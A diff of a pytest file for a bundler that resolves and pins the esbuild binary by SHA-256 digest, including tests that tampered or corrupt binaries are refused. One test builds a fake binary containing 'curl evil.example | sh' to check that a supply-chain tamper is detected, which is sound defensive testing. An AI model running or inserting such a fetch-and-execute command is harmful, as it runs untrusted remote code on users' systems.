@@ -1,9 +1,9 @@
 from __future__ import annotations
 
-import base64
 import hashlib
 import io
 import os
+import shutil
 import stat
 import tarfile
 from concurrent.futures import ThreadPoolExecutor
@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 from bundler.esbuild import binary
-from bundler.esbuild.binary import INTEGRITY, VERSION, find, host_platform
+from bundler.esbuild.binary import DIGESTS, VERSION, find, host_platform
 from bundler.model import BundlerError
 from bundler.store import Store
 from bundler.workshop import Workshop
@@ -29,6 +29,9 @@ cp "{archive}" "$2/esbuild.tgz"
 """
 
 
+FAKE = b"#!/bin/sh\necho fake esbuild\n"
+
+
 @pytest.fixture
 def workshop(tmp_path: Path) -> Workshop:
     """An empty project with an empty store."""
@@ -37,17 +40,15 @@ def workshop(tmp_path: Path) -> Workshop:
 
 @pytest.fixture
 def with_npm(workshop: Workshop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workshop:
-    """A machine whose npm fetches a small archive that our table vouches for."""
+    """A machine whose npm fetches a small program that our table vouches for."""
     archive = tmp_path / "package.tgz"
-    content = io.BytesIO(b"#!/bin/sh\necho fake esbuild\n")
     with tarfile.open(archive, "w:gz") as tar:
         for name in ("package/package.json", "package/bin/esbuild"):
             member = tarfile.TarInfo(name)
-            member.size = len(content.getvalue())
-            content.seek(0)
-            tar.addfile(member, content)
-    digest = base64.b64encode(hashlib.sha512(archive.read_bytes()).digest()).decode()
-    monkeypatch.setattr(binary, "INTEGRITY", dict.fromkeys(INTEGRITY, digest))
+            member.size = len(FAKE)
+            tar.addfile(member, io.BytesIO(FAKE))
+    digest = hashlib.sha256(FAKE).hexdigest()
+    monkeypatch.setattr(binary, "DIGESTS", dict.fromkeys(DIGESTS, digest))
     tools = tmp_path / "tools"
     tools.mkdir()
     (tools / "npm").write_text(NPM.format(archive=archive))
@@ -56,24 +57,24 @@ def with_npm(workshop: Workshop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     return replace(workshop, environ={"PATH": path, "LOG": str(tmp_path / "log")})
 
 
-def install(package: Path, version: str = VERSION) -> str:
+def install(package: Path, content: bytes = FAKE) -> None:
     (package / "bin").mkdir(parents=True)
-    (package / "package.json").write_text(f'{{"version": "{version}"}}')
-    (package / "bin/esbuild").write_text("#!/bin/sh\n")
-    (package / "bin/esbuild").chmod(0o755)
-    return str(package / "bin/esbuild")
+    (package / "package.json").write_text(f'{{"version": "{VERSION}"}}')
+    (package / "bin/esbuild").write_bytes(content)
 
 
 def test_the_real_one_is_the_pinned_one() -> None:
-    """What npm gives for this machine passes the integrity check, and is of the version."""
+    """What npm gives for this machine has the pinned digest."""
     assert os.access(binary_path(), os.X_OK)
-    assert set(INTEGRITY) == {"linux-x64", "linux-arm64", "darwin-x64", "darwin-arm64"}
-    assert all(len(base64.b64decode(digest)) == 64 for digest in INTEGRITY.values())
+    content = Path(binary_path()).read_bytes()
+    assert hashlib.sha256(content).hexdigest() == DIGESTS[host_platform()]
+    assert set(DIGESTS) == {"linux-x64", "linux-arm64", "darwin-x64", "darwin-arm64"}
 
 
 @pytest.mark.parametrize("where", ["", "../", "../.pnpm"])
 def test_the_projects_own_comes_first(where: str, with_npm: Workshop) -> None:
-    """An installed esbuild of the version is used, from folders above and pnpm's layout too."""
+    """An installed esbuild of the version spares the fetch, from folders above and pnpm's layout
+    too; once taken over it is needed no more."""
     root = Path(with_npm.root)
     if where == "../.pnpm":
         modules = root / "node_modules/.pnpm/esbuild@x/node_modules"
@@ -81,16 +82,23 @@ def test_the_projects_own_comes_first(where: str, with_npm: Workshop) -> None:
         (root / "node_modules/esbuild").symlink_to(modules / "esbuild")
     else:
         modules = root / where / "node_modules"
-    expected = install(modules / "@esbuild" / host_platform())
-    assert os.path.realpath(find(with_npm)) == os.path.realpath(expected)
+    install(modules / "@esbuild" / host_platform())
+    found = Path(find(with_npm))
+    assert found.read_bytes() == FAKE
+    assert os.access(found, os.X_OK)
+    assert found.is_relative_to(with_npm.store.root)
+    shutil.rmtree(modules)
+    assert find(with_npm) == str(found)
     assert not (root.parent / "log").exists()
-    assert find(with_npm, own=False) != expected
 
 
-def test_another_version_is_not_used(with_npm: Workshop) -> None:
-    """An installed esbuild of another version is passed over."""
-    own = install(Path(with_npm.root, "node_modules/@esbuild", host_platform()), "0.1.0")
-    assert find(with_npm) != own
+def test_what_only_says_it_is_esbuild_is_not_run(with_npm: Workshop, tmp_path: Path) -> None:
+    """A program in node_modules that is not esbuild's own, to the byte, is code of the project:
+    nobody runs it, whatever version it claims."""
+    false = FAKE + b"curl evil.example | sh\n"
+    install(Path(with_npm.root, "node_modules/@esbuild", host_platform()), false)
+    assert Path(find(with_npm)).read_bytes() == FAKE
+    assert (tmp_path / "log").exists()
 
 
 def test_fetched_once(with_npm: Workshop, tmp_path: Path) -> None:
@@ -138,15 +146,20 @@ def test_what_can_go_wrong(
     )
 
 
-def test_a_false_archive_is_refused(with_npm: Workshop, monkeypatch: pytest.MonkeyPatch) -> None:
-    """An archive with another digest never reaches the store."""
-    monkeypatch.setattr(binary, "INTEGRITY", INTEGRITY)
+@pytest.mark.parametrize("archive", ["other", "no archive", "without it"])
+def test_a_false_archive_is_refused(with_npm: Workshop, tmp_path: Path, archive: str) -> None:
+    """What is not esbuild to the byte never reaches the store."""
+    place = tmp_path / "package.tgz"
+    if archive == "no archive":
+        place.write_bytes(b"\x1f\x8b404 Not Found")
+    else:
+        name = "package/bin/esbuild" if archive == "other" else "package/bin/other"
+        with tarfile.open(place, "w:gz") as tar:
+            tar.addfile(tarfile.TarInfo(name), io.BytesIO())
     with pytest.raises(BundlerError) as caught:
         find(with_npm)
     assert caught.value.code == "esbuild-corrupt"
-    assert not (with_npm.store.root / "esbuild").exists() or not os.listdir(
-        with_npm.store.root / "esbuild"
-    )
+    assert not (with_npm.store.root / "esbuild").exists()
 
 
 def test_an_odd_machine_is_told(workshop: Workshop, monkeypatch: pytest.MonkeyPatch) -> None:
